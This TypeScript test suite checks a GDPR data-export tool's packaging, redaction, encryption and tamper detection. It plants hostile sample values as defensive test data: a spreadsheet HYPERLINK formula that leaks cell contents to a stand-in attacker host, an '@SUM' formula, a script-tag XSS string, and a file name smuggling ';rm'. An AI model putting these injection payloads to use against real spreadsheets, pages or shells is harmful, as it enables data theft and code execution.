import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type pg from 'pg';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../../src/shared/errors';
import { EXPORT_TABLES, type ExportTable, type Redaction } from '../../../src/shared/exports';
import type { ExportRequest } from '../../../src/shared/ipc/export-schemas';
import { EXPORT_TABLE_SPECS, tableSpec } from '../../../src/main/export/export-tables';
import { openArchive } from '../../../src/main/export/package-archive';
import { parseManifest, sha256Hex } from '../../../src/main/export/package-manifest';
import {
  portabilityDataSchema,
  portabilityJsonSchema,
} from '../../../src/main/export/portability-schema';
import { verifyPackage } from '../../../src/main/export/verify-package';
import { accessRequest } from '../../support/case-requests';
import { approvedCase } from '../../support/approved-case';
import { tempDir } from '../../support/temp-dir';

/** Text a spreadsheet would run, planted in the subject's records. */
const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  atSum: '@SUM(1+1) asked about delivery',
  script: '<script>alert(1)</script> -2+3',
};
const THIRD_PARTY = 'THIRD-PARTY-JANE-ROE';
const OTHER_PERSON = 'OTHER-PERSON-SECRET';

/** Customer 3 is customer 2's duplicate (merged into it) and carries the hostile name. */
async function plantRows(central: pg.Client): Promise<void> {
  await central.query(
    `UPDATE reflect.customers SET merged_into = 2, name = $1 WHERE customer_id = 3`,
    [HOSTILE.name],
  );
  await central.query(
    `INSERT INTO reflect.interactions (customer_id, channel, occurred_at, summary) VALUES
       (2, 'phone', '2026-05-01T10:00:00Z', $1),
       (2, 'email', '2026-05-02T10:00:00Z', $2),
       (3, 'chat', '2026-05-03T10:00:00Z', $3)`,
    [HOSTILE.atSum, `Called on behalf of her neighbour ${THIRD_PARTY}`, HOSTILE.script],
  );
  await central.query(
    `INSERT INTO reflect.events (customer_id, event_type, occurred_at, metadata) VALUES
       (2, 'support_note', '2026-05-04T10:00:00Z', $1)`,
    [JSON.stringify({ contact: OTHER_PERSON, tabbed: '\tTAB', cr: '\rCR' })],
  );
}

function request(caseId: string, overrides: Partial<ExportRequest> = {}): ExportRequest {
  return {
    caseId,
    formats: ['html', 'json', 'csv', 'xlsx'],
    container: 'folder',
    password: null,
    redactions: [],
    ...overrides,
  };
}

function refusal(error: unknown): string {
  expect(error).toBeInstanceOf(AppError);
  return (error as AppError).message;
}

/** Central's rows as the package should hold them: timestamps in ISO UTC, arrays and objects as JSON. */
async function centralRows(central: pg.Client, table: ExportTable, ids: number[]) {
  const spec = tableSpec(table);
  const names = spec.columns.map((c) => c.name);
  const result = await central.query<Record<string, unknown>>(
    `SELECT ${names.join(', ')} FROM reflect.${table} WHERE customer_id = ANY($1::bigint[])
     ORDER BY ${names[0] ?? ''}`,
    [ids],
  );
  return result.rows.map((row) =>
    Object.fromEntries(
      spec.columns.map((c) => {
        const value = row[c.name];
        if (value instanceof Date) return [c.name, value.toISOString()];
        if (c.kind === 'integer' && value !== null) return [c.name, Number(value)];
        return [c.name, value];
      }),
    ),
  );
}

async function workbookRows(path: string): Promise<Map<string, unknown[][]>> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  const sheets = new Map<string, unknown[][]>();
  workbook.eachSheet((sheet) => {
    const rows: unknown[][] = [];
    sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    sheets.set(sheet.name, rows);
  });
  return sheets;
}

/** Every byte a recipient could read: plain files as they are, archives (zip, xlsx) unpacked. */
async function everyReadableText(path: string, password: string | null = null): Promise<string> {
  const texts: string[] = [];
  const addArchive = async (archivePath: string, pw: string | null) => {
    const archive = await openArchive(archivePath, pw);
    for (const entry of archive.entries) {
      const content = await archive.read(entry);
      if (entry.name.endsWith('.xlsx')) {
        const nested = join(tempDir(), entry.name);
        writeFileSync(nested, content);
        await addArchive(nested, null);
      } else {
        texts.push(content.toString('utf8'));
      }
    }
    await archive.close();
  };
  if (statSync(path).isDirectory()) {
    for (const name of readdirSync(path)) {
      if (name.endsWith('.xlsx')) await addArchive(join(path, name), null);
      else texts.push(readFileSync(join(path, name), 'utf8'));
    }
  } else {
    await addArchive(path, password);
  }
  return texts.join('\n');
}

describe('fulfilment exports', () => {
  it('writes one package whose every format holds the same records, merged duplicates included', async () => {
    const { desk, central, caseId, approver } = await approvedCase({ prepare: plantRows });
    const out = join(tempDir(), 'DSAR-access');
    const record = await desk.exports.create(request(caseId), { path: out, overwrite: false });

    // The manifest lists every file with the checksum and size found on disk.
    const manifest = parseManifest(readFileSync(join(out, 'manifest.json'), 'utf8'));
    expect(manifest).toMatchObject({
      caseId,
      customerIds: [2, 3],
      formats: ['html', 'json', 'csv', 'xlsx'],
      appVersion: '0.0.0-test',
      approval: { approvedBy: approver },
    });
    const expectedFiles = [
      'access-report.html',
      'data.json',
      'schema.json',
      ...EXPORT_TABLES.map((t) => `${t}.csv`),
      'data.xlsx',
      'README.txt',
      'checksums.sha256',
    ];
    expect(manifest.files.map((f) => f.name)).toEqual(expectedFiles);
    for (const f of manifest.files) {
      const content = readFileSync(join(out, f.name));
      expect({ name: f.name, sha256: sha256Hex(content), bytes: content.length }).toEqual(f);
      expect(statSync(join(out, f.name)).mode & 0o777).toBe(0o600);
    }
    expect(statSync(out).mode & 0o777).toBe(0o700);
    expect(sha256Hex(readFileSync(join(out, 'manifest.json')))).toBe(record.manifestSha256);
    expect(readFileSync(join(out, 'checksums.sha256'), 'utf8')).toContain(
      `${manifest.files[1]?.sha256 ?? ''}  data.json\n`,
    );
    // Nothing else was left beside the package (no working folders).
    expect(readdirSync(join(out, '..')).filter((n) => n.startsWith('.'))).toEqual([]);

    // data.json parses back through the documented schema to central's records.
    const data = portabilityDataSchema.parse(
      JSON.parse(readFileSync(join(out, 'data.json'), 'utf8')),
    );
    for (const table of ['orders', 'interactions', 'events', 'consents', 'addresses'] as const) {
      expect(data.tables[table]).toEqual(await centralRows(central, table, [2, 3]));
    }
    expect(data.tables.customers.map((c) => [c.customer_id, c.name, c.merged_into])).toEqual([
      [2, 'Person 2', null],
      [3, HOSTILE.name, 2],
    ]);
    expect(data.tables.customers[0]?.tags).toEqual(['t2']);
    expect(data.tables.dsar_case).toEqual([
      expect.objectContaining({ case_id: caseId, request_type: 'access', due_date: '2027-03-01' }),
    ]);
    expect(data.tables.case_events.map((e) => e.kind)).toContain('approved');
    expect(manifest.rowCounts).toEqual(
      Object.fromEntries(EXPORT_TABLES.map((t) => [t, data.tables[t].length])),
    );

    // Each CSV parses back to the same rows; a cell that would run as a formula starts with '.
    const asText = (v: unknown): string =>
      v === null ? '' : typeof v === 'string' ? v : JSON.stringify(v);
    const neutral = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
    for (const table of EXPORT_TABLES) {
      const rows: string[][] = parseCsv(readFileSync(join(out, `${table}.csv`)), { bom: true });
      const columns = tableSpec(table).columns.map((c) => c.name);
      expect(rows[0]).toEqual(columns);
      expect(rows.slice(1)).toEqual(
        data.tables[table].map((r) =>
          columns.map((c) => {
            const v = r[c];
            return typeof v === 'string' ? neutral(v) : asText(v);
          }),
        ),
      );
    }
    const customersCsv = readFileSync(join(out, 'customers.csv'), 'utf8');
    expect(customersCsv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(readFileSync(join(out, 'interactions.csv'), 'utf8')).toContain(`'${HOSTILE.atSum}`);

    // The workbook has a sheet per table holding the same cells, formulas neutralised too.
    const sheets = await workbookRows(join(out, 'data.xlsx'));
    expect([...sheets.keys()]).toEqual([...EXPORT_TABLES]);
    expect(sheets.get('orders')?.length).toBe(data.tables.orders.length + 1);
    expect(sheets.get('customers')?.[2]?.[1]).toBe(`'${HOSTILE.name}`);
    expect(sheets.get('customers')?.[1]?.[10]).toBe(false);
    const eventRow = sheets.get('events')?.find((r) => r[2] === 'support_note');
    expect(JSON.parse(String(eventRow?.[4]))).toMatchObject({ contact: OTHER_PERSON });
    for (const sheet of sheets.values()) {
      for (const row of sheet) {
        for (const cell of row) {
          if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        }
        expect(
          row.some((cell) => typeof cell === 'object' && cell !== null && 'formula' in cell),
        ).toBe(false);
      }
    }

    // The report says what Article 15 asks and shows hostile text as text.
    const html = readFileSync(join(out, 'access-report.html'), 'utf8');
    expect(html).toContain('Content-Security-Policy" content="default-src \'none\'');
    expect(html).toContain('Article 15 of the General Data Protection Regulation');
    for (const heading of [
      'Why we process it',
      'Who receives it',
      'How long we keep it',
      'Where it came from',
      'supervisory authority',
    ]) {
      expect(html).toContain(heading);
    }
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html.match(/<script/gi)).toBeNull();
    expect(readFileSync(join(out, 'README.txt'), 'utf8')).toContain(
      'sha256sum -c checksums.sha256',
    );

    // Who, what and the checksum are in the audit trail, where in the export history (a path
    // may name the requester, and the trail can never be rewritten); the case's timeline has it too.
    const { audit } = desk.workspace.requireOpen();
    const entries = await audit.list({ limit: 200 });
    const written = entries.find((e) => e.action === 'export.written');
    expect(written?.details).toMatchObject({
      exportId: record.exportId,
      manifestSha256: record.manifestSha256,
      customerIds: [2, 3],
    });
    expect(JSON.stringify(written?.details)).not.toContain(out);
    expect(desk.exports.get(record.exportId).path).toBe(out);
    expect(desk.cases.get(caseId).timeline.at(-1)).toMatchObject({
      kind: 'exported',
      pending: true,
    });
    await desk.sync.run();
    const centralEvents = await central.query<{ details: { manifestSha256: string } }>(
      `SELECT details FROM reflect.case_events WHERE case_id = $1 AND kind = 'exported'`,
      [caseId],
    );
    expect(centralEvents.rows.map((r) => r.details.manifestSha256)).toEqual([
      record.manifestSha256,
    ]);
    expect(desk.exports.list(caseId).map((e) => e.exportId)).toEqual([record.exportId]);
  });

  it('withholds redacted rows and fields from every file, recording why but never what', async () => {
    // Withheld in the package proposed for approval, so the approval holds for exactly that.
    const withhold = async (central: pg.Client): Promise<Redaction[]> => {
      const ids = await central.query<{ interaction_id: string }>(
        `SELECT interaction_id FROM reflect.interactions WHERE summary LIKE '%' || $1 || '%'`,
        [THIRD_PARTY],
      );
      const event = await central.query<{ event_id: string }>(
        `SELECT event_id FROM reflect.events WHERE event_type = 'support_note'`,
      );
      const interactionId = String(ids.rows[0]?.interaction_id);
      const script = await central.query<{ interaction_id: string }>(
        `SELECT interaction_id FROM reflect.interactions WHERE summary = $1`,
        [HOSTILE.script],
      );
      const scriptId = String(script.rows[0]?.interaction_id);
      const eventId = String(event.rows[0]?.event_id);
      return [
        {
          table: 'interactions' as const,
          column: 'summary',
          rowId: interactionId,
          reason: 'names a third party',
        },
        {
          table: 'events' as const,
          column: null,
          rowId: eventId,
          reason: 'another person’s details',
        },
        {
          table: 'customers' as const,
          column: 'phone',
          rowId: null,
          reason: 'shared household line',
        },
        // Of three contacts one is withheld whole, so hiding a field in every row hides two cells.
        {
          table: 'interactions' as const,
          column: null,
          rowId: scriptId,
          reason: 'a colleague’s note',
        },
        {
          table: 'interactions' as const,
          column: 'channel',
          rowId: null,
          reason: 'internal routing',
        },
      ];
    };
    const { desk, central, caseId, redactions } = await approvedCase({
      prepare: plantRows,
      withhold,
    });
    const eventId = String(redactions[1]?.rowId);
    const interactionId = String(redactions[0]?.rowId);
    const folder = join(tempDir(), 'redacted');
    await desk.exports.create(request(caseId, { redactions }), { path: folder, overwrite: false });
    const zip = join(tempDir(), 'redacted.zip');
    await desk.exports.create(
      request(caseId, { redactions, container: 'zip', password: 'correct horse battery' }),
      { path: zip, overwrite: false },
    );

    const phones = await central.query<{ phone: string }>(
      'SELECT phone FROM reflect.customers WHERE customer_id IN (2, 3)',
    );
    const secrets = [THIRD_PARTY, OTHER_PERSON, ...phones.rows.map((r) => r.phone.slice(1))];
    for (const text of [
      await everyReadableText(folder),
      await everyReadableText(zip, 'correct horse battery'),
    ]) {
      expect(text).toContain('names a third party');
      for (const secret of secrets) {
        const at = text.indexOf(secret);
        expect(at === -1 ? '' : text.slice(at - 200, at + 50)).toBe('');
      }
    }
    const data = portabilityDataSchema.parse(
      JSON.parse(readFileSync(join(folder, 'data.json'), 'utf8')),
    );
    expect(data.tables.events.some((e) => e.event_id === Number(eventId))).toBe(false);
    expect(
      data.tables.interactions.find((i) => i.interaction_id === Number(interactionId)),
    ).toMatchObject({
      summary: null,
      occurred_at: '2026-05-02T10:00:00.000Z',
    });
    expect(data.tables.customers.map((c) => c.phone)).toEqual([null, null]);
    expect(data.redactions).toEqual([
      { ...redactions[0], rowsHidden: 0, cellsHidden: 1 },
      { ...redactions[1], rowsHidden: 1, cellsHidden: 0 },
      { ...redactions[2], rowsHidden: 0, cellsHidden: 2 },
      { ...redactions[3], rowsHidden: 1, cellsHidden: 0 },
      { ...redactions[4], rowsHidden: 0, cellsHidden: 2 },
    ]);
    expect(data.tables.interactions.map((i) => i.channel)).toEqual([null, null]);
    expect(readFileSync(join(folder, 'access-report.html'), 'utf8')).toContain('class="withheld"');
    // The audit trail and the shared timeline keep the reasons, not the values.
    const trail = JSON.stringify(await desk.workspace.requireOpen().audit.list({ limit: 500 }));
    for (const secret of secrets) expect(trail).not.toContain(secret);
    expect(trail).toContain('shared household line');
  });

  it('encrypts an archive with AES-256 and checks it only with the password', async () => {
    const { desk, caseId } = await approvedCase({ requestType: 'portability' });
    const zip = join(tempDir(), 'portability.zip');
    const preview = desk.exports.preview(caseId);
    expect(preview.defaultFormats).toEqual(['json', 'csv', 'xlsx']);
    const record = await desk.exports.create(
      request(caseId, {
        formats: preview.defaultFormats,
        container: 'zip',
        password: 'correct horse battery',
      }),
      { path: zip, overwrite: false },
    );
    expect(statSync(zip).mode & 0o777).toBe(0o600);
    expect(sha256Hex(readFileSync(zip))).toBe(record.archiveSha256);
    // The customer's email is in data.json; the archive's bytes show none of it.
    expect(readFileSync(zip).toString('latin1')).not.toContain('p2@example.org');

    const archive = await openArchive(zip, 'correct horse battery');
    expect(archive.entries.every((e) => e.encrypted)).toBe(true);
    expect(archive.entries.map((e) => e.entry.filename)).toContain(
      'portability.zip'.replace('.zip', '') + '/manifest.json',
    );
    await archive.close();

    expect(await verifyPackage(zip, { password: 'correct horse battery' })).toMatchObject({
      ok: true,
    });
    await expect(verifyPackage(zip, { password: 'not the password' })).rejects.toMatchObject({
      code: 'WRONG_PASSPHRASE',
    });
    await expect(verifyPackage(zip)).rejects.toMatchObject({ code: 'PASSPHRASE_REQUIRED' });
    // Without the password the desk still checks the archive as a whole against its record.
    expect(await desk.exports.verify(record.exportId)).toMatchObject({
      ok: true,
      manifestIntact: true,
    });
    writeFileSync(zip, Buffer.concat([readFileSync(zip), Buffer.from('tail')]));
    expect(await desk.exports.verify(record.exportId)).toMatchObject({ ok: false });
  });

  it('names every file that differs from the manifest, and a manifest rewritten to match', async () => {
    const { desk, caseId } = await approvedCase();
    const out = join(tempDir(), 'to-tamper');
    const record = await desk.exports.create(request(caseId), { path: out, overwrite: false });
    expect(await desk.exports.verify(record.exportId)).toMatchObject({
      ok: true,
      manifestIntact: true,
    });

    writeFileSync(
      join(out, 'orders.csv'),
      readFileSync(join(out, 'orders.csv'), 'utf8').replace('delivered', 'cancelled'),
    );
    writeFileSync(join(out, 'notes.txt'), 'added later');
    const schema = readFileSync(join(out, 'schema.json'));
    writeFileSync(join(out, 'schema.json'), '');
    let result = await verifyPackage(out);
    expect(result.ok).toBe(false);
    expect(result.files.filter((f) => f.status !== 'ok')).toEqual([
      expect.objectContaining({ name: 'schema.json', status: 'modified' }),
      expect.objectContaining({ name: 'orders.csv', status: 'modified' }),
      { name: 'notes.txt', status: 'unexpected' },
    ]);
    expect(result.summary).toBe(
      'schema.json was changed; orders.csv was changed; notes.txt was added.',
    );

    // Someone rewrites the manifest to match the changed file: only the desk's record catches it.
    writeFileSync(join(out, 'schema.json'), schema);
    const manifest = parseManifest(readFileSync(join(out, 'manifest.json'), 'utf8'));
    const orders = readFileSync(join(out, 'orders.csv'));
    const doctored = {
      ...manifest,
      files: manifest.files.map((f) =>
        f.name === 'orders.csv' ? { ...f, sha256: sha256Hex(orders), bytes: orders.length } : f,
      ),
    };
    writeFileSync(join(out, 'manifest.json'), JSON.stringify(doctored));
    result = await desk.exports.verify(record.exportId);
    expect(result).toMatchObject({ ok: false, manifestIntact: false });
    expect(result.summary).toMatch(/^manifest\.json is not the one written at export/);
    expect(desk.exports.get(record.exportId).lastVerification).toMatchObject({ ok: false });
  });

  it('refuses what must not leave: unapproved cases, unknown redactions, unsafe destinations', async () => {
    const { desk, caseId } = await approvedCase();
    const base = tempDir();
    const attempt = async (r: ExportRequest, path: string, overwrite = false) => {
      try {
        await desk.exports.create(r, { path, overwrite });
      } catch (error) {
        return refusal(error);
      }
      throw new Error('expected a refusal');
    };
    expect(
      await attempt(
        request(caseId, {
          redactions: [{ table: 'orders', column: 'colour', rowId: null, reason: 'x' }],
        }),
        join(base, 'a'),
      ),
    ).toMatch(/orders has no column "colour"/);
    expect(
      await attempt(
        request(caseId, {
          redactions: [{ table: 'orders', column: 'order_id', rowId: null, reason: 'x' }],
        }),
        join(base, 'a'),
      ),
    ).toMatch(/hide the row instead/);
    expect(
      await attempt(
        request(caseId, {
          redactions: [{ table: 'events', column: null, rowId: '999999', reason: 'x' }],
        }),
        join(base, 'a'),
      ),
    ).toMatch(/events has no row 999999/);
    expect(await attempt(request(caseId), 'relative/package')).toMatch(/full path/);
    expect(await attempt(request(caseId), join(base, 'missing', 'package'))).toMatch(
      /does not exist/,
    );
    expect(await attempt(request(caseId), join(base, 'bad name;rm'))).toMatch(/try "bad-name-rm"/);
    expect(
      await attempt(request(caseId, { container: 'zip' }), join(base, 'no-extension')),
    ).toMatch(/\.zip/);
    mkdirSync(join(base, 'Documents'));
    writeFileSync(join(base, 'Documents', 'thesis.docx'), 'mine');
    expect(await attempt(request(caseId), join(base, 'Documents'))).toMatch(/exists/);
    expect(await attempt(request(caseId), join(base, 'Documents'), true)).toMatch(
      /not an earlier export/,
    );
    expect(readFileSync(join(base, 'Documents', 'thesis.docx'), 'utf8')).toBe('mine');

    // An earlier package is replaced only with consent, and then whole.
    const first = await desk.exports.create(request(caseId, { formats: ['json'] }), {
      path: join(base, 'pkg'),
      overwrite: false,
    });
    expect(await attempt(request(caseId), join(base, 'pkg'))).toMatch(/exists/);
    const second = await desk.exports.create(request(caseId, { formats: ['csv'] }), {
      path: join(base, 'pkg'),
      overwrite: true,
    });
    expect(second.manifestSha256).not.toBe(first.manifestSha256);
    expect(readdirSync(join(base, 'pkg'))).not.toContain('data.json');

    // A case that is not approved, or asks for something else, is not exported at all.
    const newCase = (requestType: 'erasure' | 'access', subjectId: number) =>
      desk.cases.create(
        accessRequest({
          requestType,
          requester: { names: [`Person ${subjectId}`], emails: [], phones: [] },
          receivedAt: '2027-02-01T10:00:00Z',
          timeZone: 'UTC',
          subjectIds: [subjectId],
        }),
      );
    const erasure = newCase('erasure', 4);
    expect(await attempt(request(erasure.caseId), join(base, 'erasure'))).toMatch(
      /not answered with a copy/,
    );
    const access = newCase('access', 5);
    expect(await attempt(request(access.caseId), join(base, 'unapproved'))).toMatch(
      /second officer must approve/,
    );
    expect(desk.exports.preview(access.caseId).blocker).toMatch(/second officer must approve/);
    // Nothing half-written was left behind by any refusal.
    expect(readdirSync(base).sort()).toEqual(['Documents', 'pkg']);
    // Only the two written packages are on the desk's list.
    expect(desk.exports.list(null).map((e) => e.exportId)).toEqual([
      second.exportId,
      first.exportId,
    ]);
  });
});

describe('the documented data.json schema', () => {
  it('describes every column of every table as JSON Schema', () => {
    const schema = JSON.parse(portabilityJsonSchema()) as {
      properties: {
        tables: {
          properties: Record<
            string,
            { items: { properties: Record<string, { description?: string }> } }
          >;
        };
      };
    };
    const tables = schema.properties.tables.properties;
    expect(Object.keys(tables)).toEqual([...EXPORT_TABLES]);
    for (const spec of EXPORT_TABLE_SPECS) {
      const columns = tables[spec.table]?.items.properties ?? {};
      expect(Object.keys(columns)).toEqual(spec.columns.map((c) => c.name));
      for (const c of spec.columns) expect(columns[c.name]?.description).toBe(c.description);
    }
  });
});
